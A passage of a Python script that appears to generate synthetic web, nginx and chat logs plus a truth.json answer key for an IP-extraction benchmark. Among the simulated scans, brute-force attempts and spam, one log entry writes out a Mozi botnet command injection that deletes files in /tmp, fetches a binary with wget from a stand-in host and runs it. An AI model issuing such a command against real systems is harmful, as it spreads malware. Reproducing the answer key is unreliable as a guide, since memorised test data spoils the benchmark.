    log.crawler([a.fixed("20.171.207.130"), a.fixed("20.171.207.29")], GPTBOT, 70)
    log.crawler([a.fixed("216.73.216.118")], CLAUDEBOT, 45)
    log.crawler([a.public_v4()], PERPLEXITYBOT, 15)
    log.crawler([a.public_v4()], CCBOT, 25)
    log.crawler([a.public_v6()], META_AGENT, 15, with_robots=False)
    log.crawler([a.public_v4(), a.public_v4()], AHREFSBOT, 50)
    log.crawler([a.public_v4()], SEMRUSHBOT, 30)
    log.crawler([a.public_v4()], DUCKDUCKBOT, 10)
    for _ in range(6):  # ChatGPT-User fetches a page on a user's behalf
        log.add(diurnal_time(rng, rng.below(2)), a.fixed("23.98.142.177"), "GET", "/products/" + rng.choice(PRODUCTS), 200,
                24_000, CHATGPT_USER)

    # An aggressive crawler caught in the comparison pages: hundreds of distinct pages, several per second.
    t = at(rng, 1, 3, 0)
    spider = a.public_v4()
    pairs = [f"{x}-vs-{y}" for x in PRODUCTS for y in PRODUCTS if x < y]
    for pair in rng.sample(pairs, 260):
        path = "/products/compare/" + pair
        log.add(t, spider, "GET", path, 200, page_size(path, rng), BYTESPIDER)
        t += rng.gap(170)

    # Monitoring: an uptime checker every 15 minutes, an internal probe over link-local IPv6.
    monitor = a.public_v4()
    for i in range(2 * 24 * 4):
        log.add(START_MS + i * 15 * MINUTE + rng.below(3 * SECOND), monitor, "HEAD", "/healthz", 200, 0,
                "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)")
    log.add(at(rng, 0, 9, 17), a.fixed("fe80::1ff:fe23:4567:890a") + "%eth0", "GET", "/healthz?full=1", 200, 88,
            "kube-probe/1.31")

    # HTTP libraries: scripts polling the stock API, a price scraper.
    for lib in LIBRARIES:
        client = a.client(10)
        t = diurnal_time(rng, rng.below(2))
        for _ in range(rng.between(3, 12)):
            sku = rng.choice(PRODUCTS)
            log.add(t, client, "GET", f"/api/v1/stock?sku={sku}", 200, rng.between(90, 140), lib)
            t += rng.gap(20 * SECOND)

    # Probing bursts: one client on both days (a repeat offender), one over IPv6, a fake Googlebot.
    repeat = a.fixed("198.51.100.23")
    log.probe_burst(at(rng, 0, 2, 14), repeat, OLD_CHROME, probe_mix(rng, 35))
    log.probe_burst(at(rng, 1, 4, 51), repeat, OLD_CHROME, probe_mix(rng, 30))
    log.probe_burst(at(rng, 0, 13, 2), a.public_v6(), "-", probe_mix(rng, 25), mean_gap=900)
    log.probe_burst(at(rng, 1, 20, 0), a.public_v4(), "Mozilla/5.0 (l9scan/2.0.9353e22363e2733313e2830313; +https://leakix.net)",
                    probe_mix(rng, 20), mean_gap=300)
    fake_google = a.public_v4()
    log.probe_burst(at(rng, 0, 16, 40), fake_google, GOOGLEBOT, WORDPRESS_PROBES + ADMIN_PROBES[:5],
                    mean_gap=1500)

    # Attack tools by name: Nikto, sqlmap, zgrab, masscan, Nuclei, WPScan, Censys.
    nikto = a.fixed("192.0.2.150")
    t = at(rng, 0, 10, 5)
    for i, path in enumerate(NIKTO_PATHS):
        log.add(t, nikto, rng.choice(("GET", "GET", "HEAD", "OPTIONS")), path, 404 if i % 9 else 403, rng.between(150, 540),
                NIKTO.format(i + 1))
        t += rng.gap(250)
    sqlmap_client = a.public_v4()
    t = at(rng, 1, 1, 22)
    for i in range(40):
        param = SQLI_PARAMS[i % len(SQLI_PARAMS)]
        status = 500 if i % 7 == 3 else 200
        log.add(t, sqlmap_client, "GET", f"/products/?page={param}", status, rng.between(400, 9000), SQLMAP)
        t += rng.gap(400)
    xss_client = a.public_v6()
    t = at(rng, 0, 14, 33)
    for i in range(12):
        log.add(t, xss_client, "GET", "/search?q=" + XSS_PARAMS[i % len(XSS_PARAMS)], 200, 3400, OLD_CHROME)
        t += rng.gap(300)
    for ua, paths in ((ZGRAB, ("/",)), (MASSCAN, ("/",)), (CENSYS, ("/", "/favicon.ico")), (NUCLEI, CVE_PROBES[:6]),
                      (WPSCAN, WORDPRESS_PROBES)):
        log.probe_burst(diurnal_time(rng, rng.below(2)), a.public_v4(), ua, paths, status=200 if paths[0] == "/" else 404)

    # Login brute force: WordPress (200 on failure), xmlrpc, and the shop's own API (401).
    log.login_bruteforce(at(rng, 0, 22, 10), a.public_v4(), OLD_CHROME, "/blog/wp-login.php", 200, 90, 1500)
    log.login_bruteforce(at(rng, 1, 6, 0), a.public_v4(), "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
                         "/blog/xmlrpc.php", 200, 40, 4000)
    log.login_bruteforce(at(rng, 1, 15, 30), a.public_v6(), "python-requests/2.32.3",
                         "/api/v1/auth/login", 401, 70, 900)

    # A request-rate burst that runs into the rate limiter (429).
    log.rate_burst(at(rng, 0, 11, 45), a.public_v4(), "Go-http-client/1.1", 320, 150,
                   "/api/v1/products?page={}&per_page=100")

    # A client switching user agents on every request (a DoS-tool habit).
    switcher = a.public_v4()
    t = at(rng, 1, 9, 0)
    for i in range(14):
        path = "/products/" + rng.choice(PRODUCTS)
        log.add(t, switcher, "GET", path, 200, page_size(path, rng), BROWSER_UAS[i % 9].replace("131.0", f"{110 + i}.0"))
        t += rng.gap(400)

    # A network campaign: seven hosts of one /24 and three of one IPv6 /48 probe within minutes.
    net = f"{rng.choice(PUBLIC_V4_FIRST)}.{rng.below(256)}.{rng.below(256)}."
    t = at(rng, 0, 19, 7)
    for _ in range(7):
        log.probe_burst(t, a.in_v4_net(net), OLD_CHROME, probe_mix(rng, 14), mean_gap=500)
        t += rng.between(3, 15) * SECOND
    for i in range(3):
        log.probe_burst(t, a.in_v6_net(f"2001:db8:5ca1:{i:x}::"), "-", probe_mix(rng, 12), mean_gap=500)
        t += rng.between(3, 15) * SECOND

    # Oddities real servers log: a TLS handshake on the plain port, open-proxy probes
    # (one to a raw address), the old w00tw00t probe, an IoT-botnet command injection.
    odd = a.public_v4()
    t = at(rng, 0, 5, 3)
    log.add(t, odd, None, "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03", 400, 157, "-")
    proxy_target = a.public_v4()
    log.add(t + 4 * SECOND, odd, "CONNECT", f"{proxy_target}:443", 400, 157, "-")
    log.add(t + 9 * SECOND, odd, "GET", "http://www.example.org/", 400, 157, "-")
    log.add(at(rng, 1, 2, 0), a.public_v4(), "GET", "/w00tw00t.at.ISC.SANS.DFind:)", 400, 157, "-")
    dropper = a.fixed("198.51.100.200")
    log.add(at(rng, 1, 18, 0), a.public_v4(), "GET",
            f"/shell?cd+/tmp;rm+-rf+*;wget+http://{dropper}:8088/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws", 404, 153,
            "Hello, world")
    log.add(at(rng, 1, 18, 5), a.public_v4(), None, "-", 400, 0, "-")
    return log.sorted_hits()


def combined_line(h):
    return (f'{h.remote} - {h.user} [{clf_time(h.t)}] "{h.request_line()}" {h.status} {h.size} '
            f'"{h.referer}" "{h.ua}"\n')


def render_access_log(hits):
    return "".join(combined_line(h) for h in hits)


# ---------------------------------------------------------------------------------------------
# MARK: Output 2: nginx JSON-lines access log (portal.example.net behind a load balancer)
# ---------------------------------------------------------------------------------------------
#
#   log_format json escape=json '{"time_iso8601":"$time_iso8601","remote_addr":"$remote_addr",'
#     '"remote_user":"$remote_user","request":"$request","status":$status,'
#     '"body_bytes_sent":$body_bytes_sent,"request_time":$request_time,"http_host":"$host",'
#     '"http_referer":"$http_referer","http_user_agent":"$http_user_agent",'
#     '"http_x_forwarded_for":"$http_x_forwarded_for"}';

PORTAL_PAGES = ("/", "/login", "/dashboard", "/devices", "/devices/{id}", "/devices/{id}/settings", "/billing", "/tickets",
                "/tickets/new")
PORTAL_API = ("/api/v1/devices", "/api/v1/devices/{id}/status", "/api/v1/devices/{id}/metrics?window=1h",
              "/api/v1/notifications?unread=1", "/api/v1/me")


def portal_traffic(seed, addrs):
    rng = Rng(seed, "nginx-json")
    log = WebLog(rng, PORTAL, "portal.example.net")
    a = addrs

    def via_lb(client):
        """Requests through the load balancer: remote_addr is the LB, the client is in XFF."""
        return dict(remote=a.note(rng.choice(LB_HOPS)), xff=client)

    def session(t, client, ua, n, behind_lb):
        device = rng.between(1000, 9999)
        for i in range(n):
            path = (PORTAL_PAGES if i % 3 == 0 else PORTAL_API)[rng.below(5 if i else 1)].format(id=device)
            where = via_lb(client) if behind_lb else dict(remote=client, xff="")
            log.add(t, where["remote"], "GET", path, 200, page_size(path, rng), ua, xff=where["xff"],
                    referer=PORTAL + "/dashboard" if i else "-", proto="HTTP/2.0")
            t += rng.gap(8 * SECOND)

    for _ in range(45):
        client = a.client(35)
        behind = rng.chance(50)
        if behind and rng.chance(30):  # a corporate proxy in front of the client as well
            client = f"{client}, {a.note(rng.choice(PROXY_HOPS))}"
        session(diurnal_time(rng, rng.below(2)), client, rng.weighted(BROWSERS), rng.between(2, 9), behind)

    # Forms of the same client: full and upper-case IPv6 in XFF, a bracketed v6 with port.
    v6 = a.public_v6()
    session(diurnal_time(rng, 0), v6, BROWSER_UAS[6], 3, False)
    session(diurnal_time(rng, 1), v6_full(v6), BROWSER_UAS[6], 2, True)
    session(diurnal_time(rng, 1), v6_upper(v6), BROWSER_UAS[6], 2, True)
    bracket = a.public_v6()
    session(diurnal_time(rng, 0), bracket, BROWSER_UAS[0], 2, False)
    log.add(diurnal_time(rng, 1), a.note(LB_HOPS[0]), "GET", "/api/v1/me", 200, 512, BROWSER_UAS[0],
            xff=f"[{bracket}]:51234")

    # Decoys and addresses in query strings.
    client = a.client()
    t = diurnal_time(rng, 0)
    for path in ("/api/v1/devices/4711/snmp?oid=" + DECOY_OID, "/api/v1/devices/4711/lookup?mac=" + DECOY_MAC,
                 "/api/v1/tools/geo?ip=" + DECOY_BAD_QUAD, "/api/v1/devices/4711/schedule?day=mon&" + DECOY_TIME,
                 "/api/v1/tools/geo?ip=" + a.fixed("198.51.100.77"),
                 "/api/v1/tools/geo?ip=" + percent_encoded(a.fixed("2001:db8:4a1:7::1c"))):
        log.add(t, client, "GET", path, 422 if DECOY_BAD_QUAD in path else 200, 230, DECOY_BROWSER,
                referer=PORTAL + "/devices/4711")
        t += rng.between(2, 30) * SECOND
    session(diurnal_time(rng, 0), a.fixed("2001:db8:4a1:7::1c"), BROWSER_UAS[1], 2, False)

    # Crawlers and libraries.
    log.crawler([a.fixed("66.249.66.7")], GOOGLEBOT, 12)
    log.crawler([a.fixed("20.171.207.29")], GPTBOT, 10)
    log.crawler([a.fixed("216.73.216.118")], CLAUDEBOT, 8)
    for lib in LIBRARIES[:4]:
        c = a.client(20)
        t = diurnal_time(rng, rng.below(2))
        for _ in range(rng.between(3, 8)):
            log.add(t, c, "GET", f"/api/v1/devices/{rng.between(1000, 9999)}/status", 200, 188, lib, xff="")
            t += rng.gap(30 * SECOND)

    # Abuse: credential stuffing through the LB, scanners, probes, a campaign subnet.
    stuffer = a.public_v4()
    t = at(rng, 0, 3, 12)
    for i in range(45):
        log.add(t, a.note(LB_HOPS[i % 2]), "POST", "/api/v1/auth/login", 401, 52, "python-requests/2.32.3", xff=stuffer)
        t += rng.gap(700)
    log.probe_burst(at(rng, 1, 7, 0), a.fixed("198.51.100.23"), OLD_CHROME, probe_mix(rng, 18))
    log.probe_burst(at(rng, 0, 17, 0), a.public_v6(), ZGRAB, ("/", "/.env", "/.git/config"))
    t = at(rng, 0, 8, 0)
    for i in range(16):
        log.add(t, a.fixed("192.0.2.150"), "GET", f"/api/v1/devices?filter={SQLI_PARAMS[i % len(SQLI_PARAMS)]}",
                500 if i % 5 == 0 else 400, 90, SQLMAP)
        t += rng.gap(500)
    net = f"{rng.choice(PUBLIC_V4_FIRST)}.{rng.below(256)}.{rng.below(256)}."
    t = at(rng, 1, 21, 0)
    for _ in range(6):
        log.probe_burst(t, a.in_v4_net(net), "-", probe_mix(rng, 11), mean_gap=400)
        t += rng.between(3, 12) * SECOND
    return log.sorted_hits()


def json_string(text):
    # json.dumps escapes exactly what nginx escape=json does (", \ and control characters).
    return json.dumps(text, ensure_ascii=False)


def nginx_json_line(h, rng):
    millis = rng.between(1, 40) if h.status in (304, 404, 400) else rng.between(3, 900)
    return ("{"
            f'"time_iso8601":"{iso_seconds(h.t)}",'
            f'"remote_addr":{json_string(h.remote)},'
            f'"remote_user":"",'
            f'"request":{json_string(h.request_line())},'
            f'"status":{h.status},'
            f'"body_bytes_sent":{h.size},'
            f'"request_time":{millis // 1000}.{millis % 1000:03d},'
            f'"http_host":"{h.host}",'
            f'"http_referer":{json_string("" if h.referer == "-" else h.referer)},'
            f'"http_user_agent":{json_string("" if h.ua == "-" else h.ua)},'
            f'"http_x_forwarded_for":{json_string(h.xff)}'
            "}\n")


def render_nginx_json(hits, seed):
    rng = Rng(seed, "nginx-json-timing")
    return "".join(nginx_json_line(h, rng) for h in hits)


# ---------------------------------------------------------------------------------------------
# MARK: Output 3: live-chat widget events
# ---------------------------------------------------------------------------------------------

SITES = {"shop": ("st_9f3c2a71", SHOP), "portal": ("st_41be0d5c", PORTAL)}
OPERATORS = ("op_anna", "op_jonas", "op_mei", "op_lucas")
IDLE_TIMEOUT = 30 * MINUTE

QUESTIONS = (
    ("en", "Hi, I ordered a router on Monday and haven't received a shipping confirmation yet. Order {order}."),
    ("en", "Does the switch-8p-poe support 802.3bt on all ports?"),
    ("en", "How do I reset the admin password on the access point?"),
    ("en", "Can I change the delivery address after ordering?"),
    ("en", "Is the mesh kit compatible with my provider's fibre box?"),
    ("de", "Hallo, meine Lieferung (Bestellung {order}) ist noch nicht angekommen. Können Sie nachsehen?"),
    ("de", "Kann ich auch per Rechnung bezahlen?"),
    ("de", "Gibt es für den Router ein Firmware-Update? Die Verbindung bricht ständig ab."),
    ("fr", "Bonjour, est-ce que vous livrez en Belgique ?"),
    ("fr", "Je n'arrive pas à me connecter à mon compte, le code de vérification n'arrive pas."),
    ("es", "Hola, ¿cuánto tarda el envío a España?"),
    ("es", "¿Tienen descuento para pedidos de más de 20 unidades?"),
    ("pl", "Dzień dobry, czy mogę zwrócić przełącznik, jeśli nie pasuje?"),
    ("ja", "こんにちは。注文のキャンセルはできますか？"),
    ("uk", "Добрий день! Чи є доставка в Україну?"),
    ("pt", "Olá, o código de desconto BLACKFRIDAY não funciona no carrinho (pedido {order})."),
    ("zh", "你好，请问可以开增值税发票吗？"),
)
FOLLOW_UPS = ("Thanks, that helped!", "Okay, I'll try that.", "Danke schön!", "Merci beaucoup 🙏", "Perfect 👍",
              "And how long is the warranty?", "One more question: is there a student discount?", "ありがとうございます！")
REPLIES = {
    "en": ("Hi! Let me check that for you.", "Thanks for waiting. It shipped this morning; you'll get the tracking link by email.",
           "Yes, that works. I've updated it for you."),
    "de": ("Hallo! Ich schaue kurz nach.", "Danke für die Geduld – das Paket ist heute rausgegangen."),
    "fr": ("Bonjour ! Oui, nous livrons en Belgique sous 3 à 5 jours.",),
    "es": ("¡Hola! El envío a España tarda de 2 a 4 días laborables.",),
    "pl": ("Dzień dobry! Tak, zwrot jest możliwy w ciągu 30 dni.",),
    "ja": ("こんにちは！発送前であればキャンセルできます。",),
    "uk": ("Добрий день! Так, доставляємо.",),
    "pt": ("Olá! O código expirou ontem, desculpe.",),
    "zh": ("您好！可以的，请提供公司名称和税号。",),
}
CAMPAIGN_TEXT = "Boost your store's Google ranking in 7 days! Guaranteed top 3 👉 https://rank-boost.example/offer?ref=7731"
CAMPAIGN_VARIANTS = (CAMPAIGN_TEXT, CAMPAIGN_TEXT.upper(), CAMPAIGN_TEXT.replace(" in 7", "  in 7"))
LINK_SPAM = ("Earn 3000€ a week from home, no experience: https://quick-cash.example/join",
             "FREE USDT airdrop for new wallets -> https://usdt-claim.example/airdrop?id=88213",
             "Cheap followers and likes, real accounts: https://followers4u.example")
FLOOD_TEXTS = ("hello", "hello??", "HELLO", "anyone there", "answer me", "helloooo", "???", "is this a bot")


class ChatLog:
    """Builds sessions as lists of events; rendering sorts all events by time."""

    def __init__(self, rng):
        self.rng = rng
        self.events = []  # (t, seq, dict)

    def session_id(self):
        return "cs_" + self.rng.token(20)

    def emit(self, t, event, site_id, sid, **fields):
        record = {"ts": iso_millis(t), "event": event, "site_id": site_id, "session_id": sid}
        record.update(fields)
        self.events.append((t, len(self.events), record))

    def session(self, t, ip, ua, site="shop", pages=(), conversation=(), end="timeout", ip_later=None):
        """A widget session; conversation is [(delay_ms, sender, text)] relative to the previous event."""
        rng = self.rng
        site_id, base = SITES[site]
        sid = self.session_id()
        first_page = base + (pages[0] if pages else "/")
        self.emit(t, "session_start", site_id, sid, visitor_ip=ip, user_agent=ua, page=first_page,
                  locale=rng.choice(("en-GB", "de-DE", "fr-FR", "en-US", "es-ES", "pl-PL")))
        start, last = t, t
        for page in pages[1:]:
            t += rng.gap(50 * SECOND) + 1500
            self.emit(t, "page_view", site_id, sid, visitor_ip=ip, page=base + page)
            last = t
        operator = rng.choice(OPERATORS)
        for delay, sender, text in conversation:
            t += delay
            if ip_later and sender == "visitor" and t - start > 2 * MINUTE:
                ip = ip_later  # a phone moving from Wi-Fi to mobile data mid-session
            if sender == "visitor":
                self.emit(t, "message", site_id, sid, sender="visitor", visitor_ip=ip, text=text)
            else:
                self.emit(t, "message", site_id, sid, sender="operator", operator_id=operator, text=text)
            last = t
        if end == "timeout":
            t = last + IDLE_TIMEOUT
        else:
            t = last + rng.between(800, 20 * SECOND)
        self.emit(t, "session_end", site_id, sid, visitor_ip=ip, reason=end, duration_ms=t - start)

    def rendered(self):
        self.events.sort(key=lambda e: (e[0], e[1]))
        return "".join(json.dumps(r, ensure_ascii=False, separators=(",", ":")) + "\n" for _, _, r in self.events)


def support_conversation(rng):
    lang, question = rng.choice(QUESTIONS)
    convo = [(rng.between(8, 180) * SECOND, "visitor", question.format(order=rng.between(10_000, 19_999))),
             (rng.between(20, 120) * SECOND, "operator", REPLIES[lang][0])]
    for reply in REPLIES[lang][1:]:
        if rng.chance(60):
            convo.append((rng.between(30, 240) * SECOND, "operator", reply))
    if rng.chance(60):
        convo.append((rng.between(10, 90) * SECOND, "visitor", rng.choice(FOLLOW_UPS)))
    return convo


def chat_pages(rng, n):
    return ["/"] + ["/products/" + rng.choice(PRODUCTS) for _ in range(n - 1)]


def chat_traffic(seed, addrs):
    rng = Rng(seed, "chat")
    chat = ChatLog(rng)
    a = addrs

    # Ordinary visitors: most never write; some ask a question and talk to an operator.
    for _ in range(230):
        if rng.chance(15):  # a Node.js backend on a dual-stack socket logs IPv4 as ::ffff:a.b.c.d
            ip = "::ffff:" + a.public_v4()
        else:
            ip = a.client(30)
        ua = rng.weighted(BROWSERS)
        talks = rng.chance(35)
        chat.session(diurnal_time(rng, rng.below(2)), ip, ua, site=rng.weighted([("shop", 4), ("portal", 1)]),
                     pages=chat_pages(rng, rng.between(1, 5)), conversation=support_conversation(rng) if talks else (),
                     end="timeout" if rng.chance(70) else "closed")

    # Visitors with addresses, and decoys, in what they write or browse.
    chat.session(at(rng, 0, 10, 12), a.public_v4(), BROWSER_UAS[2],
                 conversation=[(45 * SECOND, "visitor",
                                f"I can't log in, it says my address is blocked. My IP is {a.fixed('192.0.2.44')}"),
                               (60 * SECOND, "operator", "Thanks, I've asked the team to unblock it.")])
    chat.session(at(rng, 1, 15, 0), a.public_v6(), BROWSER_UAS[4], site="portal",
                 conversation=[(70 * SECOND, "visitor",
                                f"The portal times out from our office (IPv6 {a.fixed('2001:db8:4a1:7::1c')}, "
                                f"fallback {a.fixed('198.51.100.77')}:8443). Since {DECOY_TIME.split('=')[1]} today."),
                               (90 * SECOND, "operator", "Checking the firewall logs now.")])
    chat.session(at(rng, 0, 13, 0), a.public_v4(), DECOY_BROWSER, site="portal",
                 pages=["/devices/4711", "/devices/4711/settings?tab=snmp&" + DECOY_TIME],
                 conversation=[(40 * SECOND, "visitor", f"Which OID gives the CPU load? Is it {DECOY_OID}?"),
                               (30 * SECOND, "visitor", f"Also the device list shows MAC {DECOY_MAC} twice."),
                               (20 * SECOND, "visitor", f"And the geo tool says {DECOY_BAD_QUAD} is invalid, which is right."),
                               (50 * SECOND, "operator", "Yes, that's the one (laLoad.1). I'll look at the duplicate.")])
    phone_v4, phone_v6 = a.public_v4(), a.public_v6()
    chat.session(at(rng, 1, 8, 0), phone_v4, BROWSER_UAS[6], pages=chat_pages(rng, 2), ip_later=phone_v6,
                 conversation=[(30 * SECOND, "visitor", QUESTIONS[1][1]), (150 * SECOND, "operator", REPLIES["en"][0]),
                               (40 * SECOND, "visitor", "Sorry, switched to mobile data. Still there?")])

    # Session bombing: one client opening dozens of sessions that never write.
    bomber = a.public_v4()
    t = at(rng, 0, 2, 30)
    for _ in range(45):
        chat.session(t, bomber, HEADLESS, end="closed")
        t += rng.gap(50 * SECOND) + 500
    # ... and the same from several hosts of one network.
    net = f"{rng.choice(PUBLIC_V4_FIRST)}.{rng.below(256)}.{rng.below(256)}."
    t = at(rng, 1, 1, 0)
    for _ in range(5):
        ip = a.in_v4_net(net)
        for _ in range(4):
            chat.session(t, ip, "python-requests/2.31.0", end="closed")
            t += rng.gap(40 * SECOND)

    # A message flood from one session.
    flood = [(rng.between(3, 6) * SECOND, "visitor", "hello")]
    flood += [(rng.between(400, 2500), "visitor", rng.choice(FLOOD_TEXTS)) for _ in range(39)]
    chat.session(at(rng, 0, 20, 2), a.public_v6(), BROWSER_UAS[7], conversation=flood, end="closed")

    # A spam campaign: the same text (with a link), posted within two seconds of opening the
    # session, across many sessions from hosts of one /24 and one IPv6 /48.
    net = f"{rng.choice(PUBLIC_V4_FIRST)}.{rng.below(256)}.{rng.below(256)}."
    hosts = [a.in_v4_net(net) for _ in range(6)] + [a.in_v6_net("2001:db8:77:1::"), a.in_v6_net("2001:db8:77:2::")]
    t = at(rng, 1, 11, 0)
    for i in range(16):
        chat.session(t, hosts[i % len(hosts)], HEADLESS if i % 2 else BROWSER_UAS[0],
                     conversation=[(rng.between(300, 1900), "visitor", CAMPAIGN_VARIANTS[i % 3])], end="closed")
        t += rng.gap(90 * SECOND)

    # Single spammers: a link in the first message, fast.
    for text in LINK_SPAM:
        chat.session(diurnal_time(rng, rng.below(2)), a.client(), rng.choice((HEADLESS, BROWSER_UAS[0])),
                     conversation=[(rng.between(700, 2500), "visitor", text)], end="closed")
    return chat.rendered()


# ---------------------------------------------------------------------------------------------
# MARK: Output 4: truth
# ---------------------------------------------------------------------------------------------


def render_truth(seen):
    ips = sorted(seen, key=lambda s: (ipaddress.ip_address(s).version, int(ipaddress.ip_address(s))))
    return json.dumps({"ips": ips, "decoys": list(DECOYS)}, indent=1) + "\n"


def check_samples(seen, texts):
    """Guard the promises truth.json makes; a failure here is a bug in this script."""
    everything = "".join(texts.values())
    for ip in seen:
        if ip not in everything:
            raise SystemExit(f"generator bug: {ip} is in truth.json but not written in canonical form")
        for decoy in DECOYS:
            if ip in decoy:
                raise SystemExit(f"generator bug: decoy {decoy} contains the address {ip}")
    for name, text in texts.items():
        for decoy in DECOYS:
            if decoy not in text:
                raise SystemExit(f"generator bug: decoy {decoy} missing from {name}")
    for decoy in DECOYS:
        try:
            ipaddress.ip_address(decoy)
            raise SystemExit(f"generator bug: decoy {decoy} is an address")
        except ValueError:
            pass


def write_gzip(path, data, level=9):
    """gzip with mtime 0 and no file name in the header, so only zlib's version can change it."""
    with open(path, "wb") as raw, gzip.GzipFile(filename="", mode="wb", fileobj=raw, mtime=0, compresslevel=level) as gz:
        gz.write(data)


def write_samples(out_dir, seed):
    seen = {}
    access = render_access_log(access_log_traffic(seed, Addresses(Rng(seed, "access-addresses"), seen)))
    nginx = render_nginx_json(portal_traffic(seed, Addresses(Rng(seed, "nginx-json-addresses"), seen)), seed)
    chat = chat_traffic(seed, Addresses(Rng(seed, "chat-addresses"), seen))
    check_samples(seen, {"access.log": access, "nginx-json.log": nginx, "chat.jsonl": chat})
    out_dir.mkdir(parents=True, exist_ok=True)
    write_gzip(out_dir / "access.log.gz", access.encode())
    (out_dir / "nginx-json.log").write_bytes(nginx.encode())
    (out_dir / "chat.jsonl").write_bytes(chat.encode())
    (out_dir / "truth.json").write_bytes(render_truth(seen).encode())


# ---------------------------------------------------------------------------------------------
# MARK: Large mode: one big combined log for benchmarks
# ---------------------------------------------------------------------------------------------

HEAD_CLIENTS = 1 << 16   # client texts precomputed for the most frequent ranks
CHUNK_LINES = 8192
V4_NETS = len(PUBLIC_V4_FIRST) << 16  # public /24s we draw client networks from


def permute24(x, key):
    """A keyed bijection on 24-bit integers (odd multipliers and xor-shifts are invertible)."""
    m = 0xFFFFFF
    x = ((x ^ key) * 0x9E3779) & m
    x ^= x >> 12
    x = (x * 0x5BD1E9) & m
    x ^= x >> 11
    x = (x * 0x27D4EB) & m
    return x ^ (x >> 13)


def large_client(rank, key):
    """The text of client `rank`: distinct ranks give distinct addresses; ~10% IPv6, ~1% via a proxy."""
    h = mix64(rank ^ key)
    group = rank >> 2  # four clients share a /24 (or /48), as households and offices do
    net = permute24(group & 0xFFFFFF, key & 0xFFFFFF)
    while net >= V4_NETS:  # cycle-walk: stays a bijection on [0, V4_NETS)
        net = permute24(net, key & 0xFFFFFF)
    if h % 10 == 0:
        prefix = PUBLIC_V6_PREFIXES[net % len(PUBLIC_V6_PREFIXES)]
        value = (prefix << 96) | (net << 72) | ((h >> 8) & 0xFF) << 64 | mix64(rank)
        text = ipaddress.IPv6Address(value).compressed
    else:
        host = (((h >> 8) % 62 + 1) << 2) | (rank & 3)
        text = f"{PUBLIC_V4_FIRST[net >> 16]}.{(net >> 8) & 0xFF}.{net & 0xFF}.{host}"
    if h % 100 == 7:
        text += ", " + LB_HOPS[h & 1]
    return text


def large_requests():
    """Weighted pool of '"GET /path HTTP/x" status bytes' middles (static sizes fixed per path)."""
    rng = Rng(0, "large-requests")
    pool = []
    products = [p + variant for p in PRODUCTS for variant in ("", "?variant=eu", "?variant=refurb", "?ref=newsletter")]
    for p in products:
        path = "/products/" + p
        pool.append((f'"GET {path} HTTP/2.0" 200 {page_size(path, rng)}', 6))
        img = f"/static/img/products/{p.split('?')[0]}-800.webp"
        pool.append((f'"GET {img} HTTP/2.0" 200 {page_size(img, rng, False)}', 4))
        pool.append((f'"GET {img} HTTP/2.0" 304 0', 2))
    for asset in STATIC:
        pool.append((f'"GET {asset} HTTP/2.0" 200 {page_size(asset, rng, False)}', 40))
        pool.append((f'"GET {asset} HTTP/2.0" 304 0', 30))
    for b in BLOG_POSTS:
        pool.append((f'"GET /blog/{b}/ HTTP/1.1" 200 {page_size(b, rng)}', 8))
    for q in SEARCHES:
        pool.append((f'"GET /search?q={q} HTTP/2.0" 200 {page_size(q, rng)}', 5))
    pool += [('"GET / HTTP/2.0" 200 18211', 60), ('"GET /robots.txt HTTP/1.1" 200 312', 10),
             ('"HEAD /healthz HTTP/1.1" 200 0', 10),
             ('"POST /api/v1/cart HTTP/2.0" 200 412', 12), ('"GET /api/v1/stock?sku=router-ax3000 HTTP/1.1" 200 118', 15),
             ('"POST /blog/wp-login.php HTTP/1.1" 200 4012', 3), ('"POST /api/v1/auth/login HTTP/1.1" 401 61', 3),
             ('"GET /api/v1/products?page=2&per_page=100 HTTP/1.1" 429 162', 2),
             ('"GET /tools/ip-lookup?ip=198.51.100.2 HTTP/2.0" 200 1830', 1),
             (f'"GET /support/mib/{DECOY_OID} HTTP/2.0" 200 9120', 1)]
    for probe in SENSITIVE_PROBES + ADMIN_PROBES + BACKDOOR_PROBES + TRAVERSAL_PROBES + CVE_PROBES:
        pool.append((f'"GET {probe} HTTP/1.1" 404 153', 1))
    table = []
    for middle, weight in pool:
        table.extend([middle] * weight)
    return table


LARGE_UAS = (tuple((ua, w * 4) for ua, w in BROWSERS)
             + ((GOOGLEBOT, 12), (BINGBOT, 8), (GPTBOT, 6), (CLAUDEBOT, 4), (AHREFSBOT, 4), (BYTESPIDER, 4),
                ("curl/8.5.0", 4), ("python-requests/2.32.3", 4), ("Go-http-client/1.1", 2), (ZGRAB, 1), ("-", 2)))
LARGE_REFERERS = ("-", "-", "-", "-", "-", "-", "https://www.google.com/", "https://www.google.com/",
                  SHOP + "/", SHOP + "/products/", SHOP + "/search?q=poe+switch", "https://www.bing.com/",
                  "https://duckduckgo.com/", SHOP + "/cart", "android-app://com.google.android.gm/", "https://t.co/x7Qm2aPz")


def parse_size(text):
    units = {"K": 1 << 10, "M": 1 << 20, "G": 1 << 30, "T": 1 << 40}
    text = text.strip().upper().removesuffix("B").removesuffix("I")
    if text and text[-1] in units:
        return int(text[:-1]) * units[text[-1]]
    return int(text)


def large_lines(seed, clients, lines, max_bytes, distinct=False):
    """Yield chunks (str) of combined-log lines. The hot loop does two PRNG draws per line."""
    key = mix64(seed ^ 0x5EED)
    requests = large_requests()
    n_req = len(requests)
    ua_table = [ua for ua, w in LARGE_UAS for _ in range(w)]
    n_ua = len(ua_table)
    head = [large_client(r, key) for r in range(min(clients, HEAD_CLIENTS))]
    # A client keeps its user agent (same rank -> same UA); precomputed for the head.
    head_ua = [ua_table[mix64(r ^ ~key & M64) % n_ua] for r in range(len(head))]
    buckets = clients.bit_length()  # log-uniform over [1, clients]: Zipf with s = 1

    budget_lines = lines if lines is not None else (1 << 62)
    budget_bytes = max_bytes if max_bytes is not None else (1 << 62)
    expected = lines if lines is not None else max(1, max_bytes // 250)
    mean_us = max(1, 86_400_000_000 // expected)  # spread over one day
    t_us = START_MS * 1000
    last_sec, stamp = -1, ""
    state = mix64(seed ^ 0xB16)
    written_lines = written_bytes = 0
    referers = LARGE_REFERERS

    while written_lines < budget_lines and written_bytes < budget_bytes:
        out = []
        for _ in range(min(CHUNK_LINES, budget_lines - written_lines)):
            state = (state + GOLDEN) & M64
            z = state
            z = ((z ^ (z >> 30)) * 0xBF58476D1CE4E5B9) & M64
